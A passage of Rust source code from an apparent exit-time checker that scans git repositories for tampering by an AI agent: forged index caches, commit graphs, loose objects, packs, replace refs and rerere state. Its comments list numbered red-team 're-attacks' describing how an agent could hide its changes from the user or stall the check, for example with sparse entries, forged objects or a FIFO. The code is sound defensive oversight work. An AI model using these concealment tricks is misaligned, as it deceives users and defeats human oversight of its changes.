                    removed += usize::from(std::fs::remove_file(&entry).is_ok());
                }
            } else if compiled(path) && objects::changed_since(path, self.launched) {
                sourceless.push(path.clone());
            }
        }
        (removed, sourceless)
    }
}

impl Hidden {
    /// The replace refs of the repository of `git_dir` against what it held at launch, place by
    /// place: one it did not hold then (or another object under a name it held) names where it
    /// was written.
    fn look_at_replacements(&mut self, git_dir: &Path, launched: &Replacements) {
        for (place, now) in Replacements::of(git_dir).0 {
            let held = launched.0.iter().find(|(known, _)| *known == place).map(|(_, held)| held.as_ref());
            match now {
                Ok(now) if now.is_empty() || held.is_some_and(|held| held.is_ok_and(|held| now.is_subset(held))) => {}
                Ok(_) => self.replacements.push(place),
                Err(why) => self.refs_unread.push((place, why)),
            }
        }
    }
}

/// An index whose cached trees the exit found untrue or could not hold against its entries
/// ([`cache_tree`]), and what dropping them did.
#[derive(Debug)]
pub struct CachedTrees {
    pub index: PathBuf,
    /// The directories whose cached tree was not the one their entries make (the worktree for its
    /// top); none when the cache could not be told (it is dropped all the same).
    pub forged: Vec<PathBuf>,
    pub dropped: std::io::Result<()>,
}

impl IndexSnapshot {
    /// Git state made in the session that git acts on at the user's next command, for each of
    /// `git_dirs`: a `git am` (or an `--apply` rebase) in progress, `rebase-apply/`, whose
    /// patches `am --continue` applies; and conflict resolutions recorded for rerere,
    /// `rr-cache/`, which the next conflicting merge writes into the worktree (the directory's
    /// mere existence turns rerere on): the fortieth re-attack's L4 and L5. Each made or changed
    /// in the session, whole (of an `rr-cache` there at launch, the entries changed).
    pub fn replayed_state(&self, git_dirs: &[PathBuf]) -> Vec<PathBuf> {
        let changed = |path: &Path| objects::changed_within(path, self.launched);
        let mut found = Vec::new();
        for git_dir in git_dirs {
            let applying = git_dir.join("rebase-apply");
            if std::fs::symlink_metadata(&applying).is_ok() && changed(&applying) {
                found.push(applying);
            }
            let resolutions = rr_cache(git_dir);
            if std::fs::symlink_metadata(&resolutions).is_err() {
                continue;
            }
            if !self.rr_caches.contains(&resolutions) || !resolutions.is_dir() {
                found.push(resolutions);
                continue;
            }
            let entries = std::fs::read_dir(&resolutions).into_iter().flatten().flatten();
            found.extend(entries.map(|entry| entry.path()).filter(|entry| changed(entry)));
        }
        found.sort();
        found.dedup();
        found
    }

    /// Removes the commit graph in `info` (an object directory's), and its chain, when written
    /// in the session.
    fn remove_commit_graphs(&self, info: &Path) {
        // Or its directory changed (a directory an earlier session made renamed over `info`
        // keeps its files' times: the fifty-fifth re-attack's L1). Git works without the graph.
        let info_changed = objects::changed_since(info, self.launched);
        if info_changed || objects::changed_since(&info.join("commit-graph"), self.launched) {
            let _ = std::fs::remove_file(info.join("commit-graph"));
        }
        let chain = info.join("commit-graphs");
        let chain_changed = info_changed || objects::changed_within(&chain, self.launched);
        // A link there (to a chain of the agent's anywhere: the fortieth re-attack's L3) is not
        // what git makes: the link goes, not what it leads to.
        match std::fs::symlink_metadata(&chain) {
            Ok(metadata) if metadata.is_symlink() => {
                let _ = std::fs::remove_file(&chain);
            }
            Ok(metadata) if chain_changed && metadata.is_dir() => {
                let _ = std::fs::remove_dir_all(&chain);
            }
            _ => {}
        }
    }

    /// Drops the caches git keeps in each index changed in the session ([`cache_tree::CACHES`]:
    /// the agent could forge any of them to change what git shows or commits; git makes them
    /// again), those of the linked worktrees of each repository included wherever they are checked
    /// out (the thirty-seventh re-attack's I4: `git worktree add ../feature`, its index in the
    /// workspace's `.git`). Each index whose cached trees were not its entries' (the thirty-sixth
    /// re-attack's H13: the user's next commit would take the agent's tree while `git status`
    /// shows nothing), or whose caches could not be dropped, is returned.
    pub fn drop_caches(&self) -> Vec<CachedTrees> {
        let mut indexes: Vec<(PathBuf, PathBuf, usize)> = Vec::new();
        for recorded in &self.worktrees {
            let hash_len = git::hash_len(&recorded.git_dir);
            indexes.push((recorded.git_dir.join("index"), recorded.worktree.clone(), hash_len));
            let common = git::shared_dir(&recorded.git_dir);
            // The commit graph is a cache of the commits' trees and parents that git reads in
            // place of the commits (the thirty-eighth re-attack's J5 gave its commit another
            // tree there, which `cherry-pick` took while the look read the commit): one written
            // in the session is removed, and git works from the commits.
            // Git reads one from each object directory the repository borrows from too (the
            // thirty-ninth re-attack's reading).
            let objects = common.join("objects");
            for dir in std::iter::once(objects.clone()).chain(git::alternate_object_dirs(&objects)) {
                self.remove_commit_graphs(&dir.join("info"));
            }
            for (dir, worktree) in linked_worktrees(&common) {
                indexes.push((dir.join("index"), worktree, hash_len));
            }
        }
        for (index, _, _) in &mut indexes {
            *index = super::repositories::without_dot_dots(index);
        }
        indexes.sort();
        indexes.dedup_by(|a, b| a.0 == b.0);
        let mut told = Vec::new();
        for (index, worktree, hash_len) in indexes {
            if !objects::changed_since(&index, self.launched) {
                continue;
            }
            let forged: Vec<PathBuf> = match cache_tree::look(&index, hash_len) {
                cache_tree::Look::Forged(dirs) => {
                    dirs.iter().map(|dir| worktree.join(std::ffi::OsStr::from_bytes(dir))).collect()
                }
                cache_tree::Look::Agrees | cache_tree::Look::Untold => Vec::new(),
            };
            let dropped = cache_tree::drop_caches(&index, hash_len);
            if !forged.is_empty() || dropped.is_err() {
                told.push(CachedTrees { index, forged, dropped });
            }
        }
        told
    }
}

/// Whether `object_name` (an index entry's, or a tree's) is not a version git could have stored
/// of the file at `path` as it is: `None` when it could not be told (the budgets spent, the
/// file unreadable). A file not there is: git would write the version into it (the agent could
/// not have removed it, nor made it); so is a directory.
fn holds_another_version(
    path: &Path,
    object_name: &[u8],
    hash_len: usize,
    bytes_left: &mut u64,
    files_left: &mut usize,
) -> Option<bool> {
    let Ok(metadata) = std::fs::symlink_metadata(path) else { return Some(true) };
    if *files_left == 0 || metadata.len() > *bytes_left {
        return None;
    }
    *files_left -= 1;
    *bytes_left -= metadata.len();
    let content = if metadata.is_symlink() {
        std::fs::read_link(path).ok()?.into_os_string().into_vec()
    } else if metadata.is_file() {
        git::read_capped(path, false, metadata.len()).ok()?
    } else {
        // A file or a link in git where a directory is (the thirty-sixth re-attack's H9: the
        // hooks directory replaced by a link to the agent's) is another version too.
        return Some(metadata.is_dir());
    };
    Some(!stored_forms(&content).any(|form| git::object_name(b"blob", &form, hash_len) == object_name))
}

/// What a changed entry claims of its file, when git would take the claim without looking.
struct Claim {
    name: Vec<u8>,
    object_name: Vec<u8>,
    symlink: bool,
    /// A sparse index's directory entry: git takes every file below it for what its tree holds.
    directory: bool,
    /// Marked so that git does not look (`--skip-worktree`, `--assume-unchanged`).
    hides: bool,
    /// The modification time (seconds) and size git compares with the file's: a git built
    /// without nanosecond times (Debian's) compares no more, and an entry one nanosecond off
    /// passed a stricter look (the fifteenth re-attack).
    stat: (u32, u32),
}

/// Whether the user marked `entry` so that git does not look at its file.
fn is_marked(entry: &IndexEntry) -> bool {
    entry.flags() & ASSUME_UNCHANGED != 0 || entry.extended & SKIP_WORKTREE != 0
}

/// A marked file's content as it is (read without following a link: a link is its own content,
/// its target), hashed; `None` when it is no file or is larger than [`MAX_MARKED_BYTES`].
fn marked_content(path: &Path) -> Option<[u8; 32]> {
    let metadata = std::fs::symlink_metadata(path).ok()?;
    let bytes = if metadata.is_symlink() {
        std::fs::read_link(path).ok()?.into_os_string().into_vec()
    } else if metadata.is_file() && metadata.len() <= MAX_MARKED_BYTES {
        git::read_capped(path, false, MAX_MARKED_BYTES).ok()?
    } else {
        return None;
    };
    ring::digest::digest(&ring::digest::SHA256, &bytes).as_ref().try_into().ok()
}

/// Marked files hashed at launch, at most, and the largest hashed.
const MAX_MARKED_HASHED: usize = 1_000;
const MAX_MARKED_BYTES: u64 = 4 << 20;

impl Claim {
    /// A regular file's, a link's or a sparse directory's entry (not a submodule's).
    fn of(entry: &IndexEntry) -> Option<Claim> {
        let kind = entry.mode() & 0o170000;
        (kind == 0o100000 || kind == 0o120000 || kind == 0o040000).then(|| Claim {
            name: entry.name.to_vec(),
            object_name: entry.object_name().to_vec(),
            symlink: kind == 0o120000,
            directory: kind == 0o040000,
            hides: is_marked(entry),
            stat: entry.mtime_and_size(),
        })
    }

    /// Whether the file at `path` is not what the entry says while git would not look: `None`
    /// when it could not be told (the budgets spent, the file unreadable).
    fn is_broken(&self, path: &Path, hash_len: usize, bytes_left: &mut u64, files_left: &mut usize) -> Option<bool> {
        use std::os::unix::fs::MetadataExt as _;
        // A file gone is shown by `git status`, or is what a sparse checkout leaves out.
        let Ok(metadata) = std::fs::symlink_metadata(path) else { return Some(false) };
        // A sparse directory made in the session over a directory that is there: git no longer
        // looks at anything below it (the fifteenth re-attack hid a changed `src/app.py` so). What
        // is below cannot be told from its tree here; a sparse checkout leaves such a directory out.
        if self.directory {
            return Some(
                metadata.is_dir() && std::fs::read_dir(path).is_ok_and(|mut entries| entries.next().is_some()),
            );
        }
        let (seconds, size) = self.stat;
        let claims_current = i64::from(seconds) == metadata.mtime() && size == metadata.size() as u32;
        if !self.hides && !claims_current {
            return Some(false);
        }
        if *files_left == 0 || metadata.size() > *bytes_left {
            return None;
        }
        *files_left -= 1;
        *bytes_left -= metadata.size();
        let content = if self.symlink {
            std::fs::read_link(path).ok()?.into_os_string().into_vec()
        } else if metadata.is_file() {
            git::read_capped(path, false, metadata.size()).ok()?
        } else {
            return Some(true);
        };
        Some(!stored_forms(&content).any(|form| git::object_name(b"blob", &form, hash_len) == self.object_name))
    }
}

/// What git may have stored for a file of `content`: the content; with its line ends made `\n`
/// (`core.autocrlf`, `eol`); the Git LFS pointer its clean filter stores. Another filter's output
/// (git-crypt's) cannot be told, and such a file changed is named as hidden. Each form is made
/// only when the one before it did not match (the content is not copied).
fn stored_forms(content: &[u8]) -> impl Iterator<Item = std::borrow::Cow<'_, [u8]>> {
    use std::borrow::Cow;
    let with_lf = || {
        content.windows(2).any(|pair| pair == b"\r\n").then(|| {
            let mut lf = Vec::with_capacity(content.len());
            let mut bytes = content.iter().peekable();
            while let Some(&byte) = bytes.next() {
                if !(byte == b'\r' && bytes.peek() == Some(&&b'\n')) {
                    lf.push(byte);
                }
            }
            Cow::Owned(lf)
        })
    };
    let lfs_pointer = || {
        let oid = hex::encode(ring::digest::digest(&ring::digest::SHA256, content));
        let pointer = format!("version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {}\n", content.len());
        Cow::Owned(pointer.into_bytes())
    };
    std::iter::once(Cow::Borrowed(content))
        .chain(std::iter::once_with(with_lf).flatten())
        .chain(std::iter::once_with(lfs_pointer))
}

/// The files the commits made in the session hold at a path, read from the loose objects
/// without running git. An object is the session's when its file's
/// status-change time (which no process sets back) is not before the launch; one from before
/// (loose or packed) was there already — the user's history, not the agent's making — and is not
/// followed. (Git freshens an object it would write again, so an old one written again in the
/// session is looked at too: a warning too many at worst, never one too few.) An object that is
/// not loose while a pack or an alternate changed in the session cannot be told: the caller names
/// the path as not checked.
mod objects {
    use std::collections::HashMap;
    use std::io::Read as _;
    use std::os::unix::ffi::OsStrExt as _;
    use std::path::{Path, PathBuf};

    use super::git;

    /// Objects larger than this (inflated) are not read.
    const MAX_OBJECT_BYTES: u64 = 64 * 1024 * 1024;
    /// Directories deeper than this are not followed.
    const MAX_DEPTH: usize = 256;
    /// Files below one protected directory looked at, at most.
    const MAX_FILES: usize = 10_000;

    /// Loose objects made in the session looked at, at most.
    const MAX_NEW_OBJECTS: usize = 200_000;

    /// A moment a little before the launch, in nanoseconds as file times read it (the kernel
    /// stamps files from a coarse clock, which can be a few ticks behind the time read here).
    pub fn launch_moment() -> i128 {
        let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
        now.as_nanos() as i128 - 50_000_000
    }

    pub use super::git::changed_since;

    /// Whether `path`, or an entry of it (the first 10,000), changed since `launched`.
    pub fn changed_within(path: &Path, launched: i128) -> bool {
        changed_since(path, launched)
            || std::fs::read_dir(path)
                .into_iter()
                .flatten()
                .flatten()
                .take(10_000)
                .any(|entry| changed_since(&entry.path(), launched))
    }

    /// An object as found.
    enum Found {
        /// Made in the session: its body.
        New(Vec<u8>),
        /// There before the session.
        Old,
    }

    /// A repository's objects, as the session left them.
    pub struct Objects {
        /// The repository's object directory, then those it borrows from
        /// ([`git::alternate_object_dirs`]), in git's order.
        dirs: Vec<PathBuf>,
        hash_len: usize,
        launched: i128,
        /// A pack, or the list of alternates, changed in the session: an object that is not
        /// loose may be the session's.
        packs_changed: bool,
        /// The objects earlier sessions made ([`read_history`]), and whether each is a commit:
        /// the agents' work like this session's while they are loose.
        earlier: HashMap<Vec<u8>, bool>,
        /// The repository's `objects/pack` is another directory than at launch: each of its
        /// packs is taken for written in the session.
        pub pack_dir_renamed_in: bool,
    }

    /// The trees of the commits looked at, or `Err` when they could not all be found.
    pub type Trees = Result<Vec<Vec<u8>>, ()>;

    /// Objects by name, each with whether it is a commit.
    pub type Made = Vec<(Vec<u8>, bool)>;

    /// What [`Objects::new_commit_trees`] found among the loose objects changed in the session.
    pub struct Scan {
        /// The trees of the commits to look through, or `Err` when they could not all be found.
        pub trees: Trees,
        /// Every object made, for the sessions' list.
        pub made: Made,
        /// The object files whose content is not what their names say.
        pub forged: Vec<PathBuf>,
        /// The object files too large to hold against their names here.
        pub unchecked: Vec<PathBuf>,
    }

    /// What a loose object file inflates to.
    enum Inflated {
        /// Its kind, git's name for what it holds, and its body when a commit.
        Object { kind: Vec<u8>, name: Vec<u8>, body: Vec<u8> },
        /// It does not inflate, its header does not say its size, or it inflates to another size:
        /// not what git writes, though git's streaming reader (checkout's) takes what it holds
        /// whatever the header says (the fortieth re-attack's L1, L12).
        Broken,
        /// It could not be opened (gone since it was listed).
        Unreadable,
        /// More than [`MAX_CHECKED_BYTES`] inflated.
        TooLarge,
    }

    /// The endings of the files git reads in `objects/pack` for a pack: the pack, its index and
    /// the files beside them (the multi-pack index is looked at by its own name).
    const PACK_FILES: [&str; 7] = [".idx", ".pack", ".keep", ".rev", ".bitmap", ".mtimes", ".promisor"];

    /// The most of one loose object inflated to hold it against its name (a zlib stream of a
    /// few KiB can inflate to many GiB).
    const MAX_CHECKED_BYTES: u64 = 1 << 30;
    /// The most the loose objects of one object directory are inflated to, in all; past it, an
    /// object is too large to check here (named as not looked at).
    const MAX_CHECKED_BYTES_IN_ALL: u64 = 2 << 30;

    /// Objects listed for one repository at most (past it, the rest are not kept: an agent that
    /// makes more than a million loose objects has each session's exit name what it made).
    const MAX_HISTORY: usize = 1_000_000;

    /// The file in `dir` listing the objects sessions made in the object directory `objects`.
    pub fn history_file(dir: &Path, objects: &Path) -> PathBuf {
        let real = std::fs::canonicalize(objects).unwrap_or_else(|_| objects.to_path_buf());
        let digest = ring::digest::digest(&ring::digest::SHA256, real.as_os_str().as_bytes());
        dir.join(hex::encode(&digest.as_ref()[..16]))
    }

    /// The objects `file` lists (`c <name>` for a commit, `o <name>` for any other), as made by
    /// earlier sessions.
    pub fn read_history(file: &Path) -> HashMap<Vec<u8>, bool> {
        let text = std::fs::read_to_string(file).unwrap_or_default();
        let parse = |line: &str| {
            let (kind, name) = line.split_once(' ')?;
            Some((hex::decode(name).ok()?, kind == "c"))
        };
        text.lines().take(MAX_HISTORY).filter_map(parse).collect()
    }

    impl Objects {
        pub fn new(dir: PathBuf, hash_len: usize, launched: i128, earlier: HashMap<Vec<u8>, bool>) -> Objects {
            let changed = |path: &Path| changed_since(path, launched);
            // Git reads the objects of a directory the repository borrows from as its own: one
            // the agent can write is looked through as the repository's (the thirty-ninth
            // re-attack's reading).
            let mut dirs = vec![dir.clone()];
            dirs.extend(
                git::alternate_object_dirs(&dir)
                    .iter()
                    .map(|alternate| super::super::repositories::without_dot_dots(alternate)),
            );
            let mut seen = std::collections::HashSet::new();
            dirs.retain(|dir| seen.insert(dir.clone()));
            let packs_changed = dirs.iter().any(|dir| {
                let packs = std::fs::read_dir(dir.join("pack")).into_iter().flatten().flatten().take(100_000);
                changed(&dir.join("info/alternates"))
                    || changed(&dir.join("pack"))
                    || packs.into_iter().any(|entry| changed(&entry.path()))
            });
            Objects { dirs, hash_len, launched, packs_changed, earlier, pack_dir_renamed_in: false }
        }

        /// The packs written in the session, in each object directory, that do not hold what
        /// their indexes name ([`super::super::pack::check`]: git reads a pack before the loose
        /// objects and never checks an entry against its name, the fifty-second re-attack's F2),
        /// each with the files beside it; and a multi-pack index written in the session, whose
        /// names and offsets git reads before the packs' own indexes (git reads the packs without
        /// it). A pack too large to check is left to the warning for packs written in the session.
        pub fn forged_packs(&self) -> (Vec<PathBuf>, Vec<PathBuf>) {
            use super::super::pack;
            let (mut forged, mut unchecked) = (Vec::new(), Vec::new());
            if !self.packs_changed {
                return (forged, unchecked);
            }
            // One budget for every pack looked at, and each pair of files looked at once, however
            // many names link to it (the sixty-first re-attack's R4).
            let mut spent = 0;
            let mut looked: HashMap<(super::Identity, super::Identity), pack::Checked> = HashMap::new();
            for dir in &self.dirs {
                let packs = dir.join("pack");
                // Every name git reads there, however many other files the directory holds: a
                // forged pack listed past the first 100,000 entries of 150,000 junk files was not
                // looked at (the sixty-first re-attack's R2).
                let entries: Vec<PathBuf> = std::fs::read_dir(&packs)
                    .into_iter()
                    .flatten()
                    .flatten()
                    .filter(|entry| {
                        let name = entry.file_name();
                        PACK_FILES.iter().any(|ending| name.as_bytes().ends_with(ending.as_bytes()))
                    })
                    .map(|entry| entry.path())
                    .collect();
                // Each name ending in `.idx` is an index to git, `.idx` itself included, its pack
                // the name with `.pack` for `.idx` (the fifty-fifth re-attack's P1).
                let stem = |path: &Path| {
                    let name = path.file_name().unwrap_or_default().as_bytes();
                    let dot = name.iter().rposition(|&byte| byte == b'.').unwrap_or(name.len());
                    name[..dot].to_vec()
                };
                let mut any_written = false;
                let renamed_in = self.pack_dir_renamed_in && *dir == self.dirs[0];
                for idx in entries.iter().filter(|path| path.as_os_str().as_bytes().ends_with(b".idx")) {
                    let pack_file = packs.join(std::ffi::OsStr::from_bytes(&[&stem(idx)[..], b".pack"].concat()));
                    let written = renamed_in || [idx, &pack_file].iter().any(|file| changed_since(file, self.launched));
                    any_written |= written;
                    if !written {
                        continue;
                    }
                    let key = (super::identity(idx), super::identity(&pack_file));
                    let checked = *looked
                        .entry(key)
                        .or_insert_with(|| pack::check_within(idx, &pack_file, self.hash_len, &mut spent));
                    match checked {
                        pack::Checked::Forged => {
                            let base = stem(idx);
                            forged.extend(entries.iter().filter(|path| stem(path) == base).cloned());
                        }
                        pack::Checked::TooLarge => unchecked.push(idx.clone()),
                        pack::Checked::True => {}
                    }
                }
                // A multi-pack index names objects by offsets in the packs: one written in the
                // session, or any beside a pack written in the session (whose offsets it may
                // misname: the fifty-fifth re-attack's P2 rewrote a pack to agree with its own
                // index while the user's multi-pack index still named the old offsets). Git reads
                // the packs without it.
                for index in ["multi-pack-index", "multi-pack-index.d"].map(|name| packs.join(name)) {
                    let there = std::fs::symlink_metadata(&index).is_ok();
                    if there && (any_written || changed_since(&index, self.launched)) {
                        forged.push(index);
                    }
                }
            }
            (forged, unchecked)
        }

        /// Where the loose object `id` is, in the first directory holding it as git looks (the
        /// repository's when none does).
        fn loose(&self, id: &[u8]) -> PathBuf {
            let name = hex::encode(id);
            let at = |dir: &PathBuf| dir.join(&name[..2]).join(&name[2..]);
            let found = self.dirs.iter().map(at).find(|path| std::fs::symlink_metadata(path).is_ok());
            found.unwrap_or_else(|| at(&self.dirs[0]))
        }

        /// Lists in `file` the objects `made` in this session and those earlier sessions made,
        /// packed since or not (the thirty-eighth re-attack's J1 had the user's automatic `git gc`
        /// pack its blob between the sessions): written whole, by a rename.
        pub fn write_history(&self, file: &Path, made: Made) {
            let mut listed: Made = self.earlier.iter().map(|(id, commit)| (id.clone(), *commit)).collect();
            listed.extend(made);
            listed.sort();
            listed.dedup();
            let skip = listed.len().saturating_sub(MAX_HISTORY);
            let text: String = listed
                .iter()
                .skip(skip)
                .map(|(id, commit)| format!("{} {}\n", if *commit { "c" } else { "o" }, hex::encode(id)))
                .collect();
            if let Some(dir) = file.parent() {
                let _ = std::fs::create_dir_all(dir);
            }
            let _ = crate::platform::home::write_atomic(file, text.as_bytes(), 0o600);
        }

        /// Each file made in the session that `tree` holds at `relative` (that file, or the files
        /// below that directory, at most [`MAX_FILES`]), given to `visit` with its object name;
        /// `Err` when an object on the way could not be read or told.
        pub fn new_blobs_at(
            &self,
            tree: &[u8],
            relative: &Path,
            mut visit: impl FnMut(&Path, &[u8]),
        ) -> Result<(), ()> {
            let parts: Vec<&[u8]> = relative.iter().map(|part| part.as_encoded_bytes()).collect();
            if parts.len() > MAX_DEPTH {
                return Err(());
            }
            let mut left = MAX_FILES;
            if parts.is_empty() {
                // The whole tree.
                return self.visit_below(PathBuf::new(), b"40000", tree, 0, &mut left, &mut visit);
            }
            self.down(tree, &parts, relative, &mut left, &mut visit)
        }

        /// [`Objects::new_blobs_at`] from `tree`, `parts` of the path still to go down. Every
        /// entry of a part's name is followed (a tree listing one twice: git keeps the last, the
        /// thirty-sixth re-attack's H21), and one whose name holds a `/` through the part makes a
        /// path through the protected one (git does not check names at checkout: H20).
        fn down(
            &self,
            tree: &[u8],
            parts: &[&[u8]],
            relative: &Path,
            left: &mut usize,
            visit: &mut impl FnMut(&Path, &[u8]),
        ) -> Result<(), ()> {
            let Found::New(body) = self.read(tree, b"tree")? else { return Ok(()) };
            let (part, rest) = (parts[0], &parts[1..]);
            let mut entries = body.as_slice();
            while !entries.is_empty() {
                let (mode, name, id, after) = split_entry(entries, self.hash_len)?;
                entries = after;
                if name != part {
                    if name.starts_with(part) && name.get(part.len()) == Some(&b'/') {
                        visit(relative, &[]);
                    }
                    continue;
                }
                match (Kind::of(mode)?, rest.is_empty()) {
                    (Kind::Directory, false) => self.down(id, rest, relative, left, visit)?,
                    (Kind::Directory, true) | (Kind::File, true) => {
                        self.visit_below(relative.to_path_buf(), mode, id, 0, left, visit)?;
                    }
                    // A file or a link where a directory of the path is: checked out, it takes the
                    // protected path's place (a link to a directory of the agent's hooks: H9).
                    (Kind::File, false) => {
                        if self.new_blob(id)? {
                            visit(relative, id);
                        }
                    }
                    // A submodule's commit is not a file here.
                    (Kind::Submodule, _) => {}
                }
            }
            Ok(())
        }

        /// The trees of the commits made in the session, each object file made since the
        /// launch looked at (at most [`MAX_NEW_OBJECTS`]); the trees are `Err` when there were
        /// more, one could not be read, or a pack or alternate changed (what is in it cannot be
        /// told here). The loose objects are held against their names in every case: a pack
        /// directory touched (a file made there and removed) left a forged loose object
        /// unlooked-at when this gave up first (the fifty-seventh re-attack's R3).
        pub fn new_commit_trees(&self) -> Scan {
            let mut complete = !self.packs_changed;
            let mut trees = Vec::new();
            let mut made = Vec::new();
            let mut forged = Vec::new();
            let mut unchecked = Vec::new();
            let mut left = MAX_NEW_OBJECTS;
            let mut held_left = MAX_NEW_OBJECTS;
            let mut budget = MAX_CHECKED_BYTES_IN_ALL;
            let tree_of = |body: &[u8]| -> Option<Vec<u8>> {
                let tree = body.strip_prefix(b"tree ")?.get(..2 * self.hash_len)?;
                hex::decode(tree).ok()
            };
            // The commits earlier sessions made, still loose: a later session can name one (a
            // branch pointed at it: the thirty-sixth re-attack's H5). One packed since cannot be
            // read here; the session that made it named what it held.
            for (id, _) in self.earlier.iter().filter(|(_, commit)| **commit) {
                if std::fs::symlink_metadata(self.loose(id)).is_err() {
                    continue;
                }
                match self.read(id, b"commit") {
                    Ok(Found::New(body)) => match tree_of(&body) {
                        Some(tree) => trees.push(tree),
                        None => complete = false,
                    },
                    Ok(Found::Old) => {}
                    Err(()) => complete = false,
                }
            }
            let Ok(own) = std::fs::read_dir(&self.dirs[0]) else {
                return Scan { trees: Err(()), made, forged, unchecked };
            };
            let borrowed = self.dirs[1..].iter().flat_map(std::fs::read_dir);
            'fans: for fan in std::iter::once(own).chain(borrowed).flatten().flatten() {
                let prefix = fan.file_name();
                let prefix = prefix.to_string_lossy();
                if prefix.len() != 2 || !prefix.bytes().all(|byte| byte.is_ascii_hexdigit()) {
                    continue;
                }
                // A directory changed in the session may hold objects it did not write: one an
                // earlier session made, renamed into place whole, keeps its files' times (the
                // fifty-fifth re-attack's L1 put a forged blob so). Its objects are held against
                // their names too, not taken for made.
                let fan_changed = changed_since(&fan.path(), self.launched);
                for object in std::fs::read_dir(fan.path()).into_iter().flatten().flatten() {
                    let path = object.path();
                    if !changed_since(&path, self.launched) {
                        if fan_changed && let Some(left) = held_left.checked_sub(1) {
                            held_left = left;
                            let id = hex::decode(format!("{prefix}{}", object.file_name().to_string_lossy()));
                            match (id, inflate(&path, self.hash_len, &mut budget)) {
                                (Ok(id), Inflated::Object { name, .. }) if name == id => {}
                                (_, Inflated::Unreadable | Inflated::TooLarge) | (Err(_), _) => {}
                                _ => forged.push(path),
                            }
                        }
                        continue;
                    }
                    let Some(fewer) = left.checked_sub(1) else {
                        complete = false;
                        break 'fans;
                    };
                    left = fewer;
                    let rest = object.file_name();
                    let Ok(id) = hex::decode(format!("{prefix}{}", rest.to_string_lossy())) else { continue };
                    // Inflated whole, in a stream, and held against its name: git takes a loose
                    // object for what its name says without checking (K1 rewrote the user's in
                    // place). One that is not an object as git writes one is taken for forged
                    // too: git's checkout streams what it holds past or short of its header.
                    let (kind, name, body) = match inflate(&path, self.hash_len, &mut budget) {
                        Inflated::Object { kind, name, body } => (kind, name, body),
                        Inflated::Unreadable => continue,
                        Inflated::Broken => {
                            forged.push(path);
                            continue;
                        }
                        Inflated::TooLarge => {
                            unchecked.push(path);
                            continue;
                        }
                    };
                    if name != id {
                        forged.push(path);
                        continue;
                    }
                    let commit = kind == b"commit";
                    made.push((id.clone(), commit));
                    if !commit {
                        continue;
                    }
                    match tree_of(&body) {
                        Some(tree) => trees.push(tree),
                        None => complete = false,
                    }
                }
            }
            trees.sort();
            trees.dedup();
            Scan { trees: if complete { Ok(trees) } else { Err(()) }, made, forged, unchecked }
        }

        fn visit_below(
            &self,
            path: PathBuf,
            mode: &[u8],
            object: &[u8],
            depth: usize,
            left: &mut usize,
            visit: &mut impl FnMut(&Path, &[u8]),
        ) -> Result<(), ()> {
            match Kind::of(mode)? {
                Kind::Directory => {
                    if depth > MAX_DEPTH {
                        return Err(());
                    }
                    let Found::New(body) = self.read(object, b"tree")? else { return Ok(()) };
                    let mut rest = body.as_slice();
                    while !rest.is_empty() {
                        let (mode, name, id, after) = split_entry(rest, self.hash_len)?;
                        let child = path.join(std::ffi::OsStr::from_bytes(name));
                        self.visit_below(child, mode, id, depth + 1, left, visit)?;
                        rest = after;
                    }
                    Ok(())
                }
                Kind::File => {
                    *left = left.checked_sub(1).ok_or(())?;
                    if self.new_blob(object)? {
                        visit(&path, object);
                    }
                    Ok(())
                }
                // A submodule's commit is not a file here.
                Kind::Submodule => Ok(()),
            }
        }

        /// Whether the blob `id` is the agents': made in this session, or by an earlier one
        /// (packed since or not: its name is all a comparison needs).
        fn new_blob(&self, id: &[u8]) -> Result<bool, ()> {
            if self.earlier.contains_key(id) {
                return Ok(true);
            }
            Ok(matches!(self.read(id, b"blob")?, Found::New(_)))
        }

        /// The object `id`, which must be of `kind`: its body when made in the session.
        fn read(&self, id: &[u8], kind: &[u8]) -> Result<Found, ()> {
            if id.len() != self.hash_len {
                return Err(());
            }
            let path = self.loose(id);
            if std::fs::symlink_metadata(&path).is_err() {
                // An earlier session's, packed since: what it holds cannot be read here.
                return if self.packs_changed || self.earlier.contains_key(id) { Err(()) } else { Ok(Found::Old) };
            }
            if !changed_since(&path, self.launched) && !self.earlier.contains_key(id) {
                return Ok(Found::Old);
            }
            let compressed = git::read_capped(&path, false, MAX_OBJECT_BYTES).map_err(|_| ())?;
            let mut object = Vec::new();
            flate2::read::ZlibDecoder::new(compressed.as_slice())
                .take(MAX_OBJECT_BYTES)
                .read_to_end(&mut object)
                .map_err(|_| ())?;
            let nul = object.iter().position(|&byte| byte == 0).ok_or(())?;
            let header = &object[..nul];
            let (found, _) = header.split_at(header.iter().position(|&byte| byte == b' ').ok_or(())?);
            if found != kind {
                return Err(());
            }
            Ok(Found::New(object.split_off(nul + 1)))
        }
    }

    /// A loose object file inflated in a stream and hashed as git names objects; a commit's body
    /// kept (at most [`MAX_OBJECT_BYTES`]).
    /// The loose object at `path` inflated, its declared size taken from `budget` (shared by
    /// every object of one exit's look at a directory: 2,000 hard links to one object of 1 GiB
    /// held the exit for days, the sixty-first re-attack's R3).
    fn inflate(path: &Path, hash_len: usize, budget: &mut u64) -> Inflated {
        use std::io::BufRead as _;
        // Never waiting on what is there (a FIFO in an object's place held the exit for good: the
        // forty-first re-attack's M6), and never through a link: git writes neither, so either is
        // taken for forged.
        let file = match git::open_regular_here(path) {
            Ok(file) => file,
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Inflated::Unreadable,
            Err(_) => return Inflated::Broken,
        };
        let decoder = flate2::read::ZlibDecoder::new(std::io::BufReader::new(file));
        let mut reader = std::io::BufReader::with_capacity(1 << 16, decoder.take(MAX_CHECKED_BYTES + 64));
        let mut header = Vec::new();
        if (&mut reader).take(64).read_until(0, &mut header).is_err() || header.pop() != Some(0) {
            return Inflated::Broken;
        }
        let Some((kind, size)) = std::str::from_utf8(&header).ok().and_then(|header| header.split_once(' ')) else {
            return Inflated::Broken;
        };
        let Ok(size) = size.parse::<u64>() else { return Inflated::Broken };
        if size > MAX_CHECKED_BYTES || size > *budget {
            return Inflated::TooLarge;
        }
        *budget -= size;
        let mut digest = ring::digest::Context::new(git::object_hash(hash_len));
        digest.update(&header);
        digest.update(&[0]);
        let keep = kind == "commit";
        let (mut body, mut read) = (Vec::new(), 0u64);
        loop {
            let Ok(chunk) = reader.fill_buf() else { return Inflated::Broken };
            if chunk.is_empty() {
                break;
            }
            let length = chunk.len();
            read += length as u64;
            if read > size {
                return Inflated::Broken;
            }
            digest.update(chunk);
